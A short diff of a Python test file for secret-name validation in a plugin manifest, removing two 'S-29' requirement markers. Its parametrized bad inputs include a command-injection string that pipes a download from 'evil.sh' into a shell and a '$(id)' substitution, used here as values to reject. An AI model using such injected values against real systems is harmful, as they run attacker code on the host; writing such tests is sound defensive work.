@@ -8,7 +8,6 @@ from tests.manifest.documents import native, shu
 SECRET_WARNINGS = ("unknown_operation", "unlisted_secret", "secrets_not_asked")
 
 
-@pytest.mark.req("S-29")
 def test_secrets_that_nobody_could_use_are_warned_of() -> None:
     operations = {"nosuchtool": {"secrets": {"other": "user"}}, "send": {"secrets": {"key": "user"}}}
     said = native(secrets=["key"], operation_auth=operations, tools=[{"name": "send"}], capabilities=["net:[]"])
@@ -28,7 +27,6 @@ def test_secrets_that_nobody_could_use_are_warned_of() -> None:
     ]
 
 
-@pytest.mark.req("S-29")
 @pytest.mark.parametrize(
     "name", ["a; curl evil.sh|sh #", "$(id)", "--tenant=acme", "two words", "", "x" * 129, "plugin/weather/API_KEY"]
 )
